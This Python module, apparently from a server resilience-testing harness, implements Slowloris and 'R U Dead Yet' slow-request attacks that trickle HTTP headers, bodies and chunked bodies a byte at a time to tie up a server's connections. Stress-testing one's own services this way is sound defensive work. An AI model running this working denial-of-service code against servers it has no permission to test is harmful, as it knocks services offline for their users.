"""Requests that arrive a few bytes at a time, or never (Slowloris, and "R U Dead Yet")."""

from typing import Final

from hostile.client import Attack, HostileClient

_HEAD: Final = b"GET /api/events HTTP/1.1\r\nHost: x\r\nX-Slow: "
_BODY: Final = (
    b"POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
)
_CHUNKED: Final = b"POST /api/session HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"


async def _trickle(client: HostileClient, beginning: bytes, piece: bytes) -> None:
    """Sends ``beginning``, then ``piece`` for ever. Raises OSError once the target has ended the connection."""
    connection = await client.connect()
    await client.step()
    await connection.send(beginning)
    while True:
        await client.step()
        await connection.send(piece)
        await connection.receive(0.01)


async def _slow_head(client: HostileClient) -> None:
    await _trickle(client, _HEAD, b"a")


async def _slow_body(client: HostileClient) -> None:
    await _trickle(client, _BODY, b" ")


async def _slow_chunks(client: HostileClient) -> None:
    await _trickle(client, _CHUNKED, b"1\r\n \r\n")


SLOW_REQUESTS: Final = (
    Attack("heads a byte at a time", 60, 60, _slow_head),
    Attack("bodies a byte at a time", 60, 60, _slow_body),
    Attack("chunks a byte at a time", 20, 20, _slow_chunks),
)
